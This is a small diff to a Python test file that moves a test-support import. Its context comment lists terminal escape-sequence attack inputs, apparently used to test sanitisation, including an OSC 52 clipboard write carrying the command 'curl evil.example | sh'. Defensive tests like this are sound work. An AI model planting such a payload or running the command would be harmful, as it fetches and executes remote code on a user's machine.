@@ -22,7 +22,7 @@ from urllib.parse import parse_qsl, urlencode, urlsplit
 
 import httpx
 
-from tests.connect.support import seed_store, start_connect
+from tests.support.connect import seed_store, start_connect
 
 # ESC ] 0 retitles the window, ESC [ 2 J clears the screen, ESC ] 52 writes the clipboard (base64
 # "curl evil.example | sh"), CSI in its C1 form, and a bidi override.
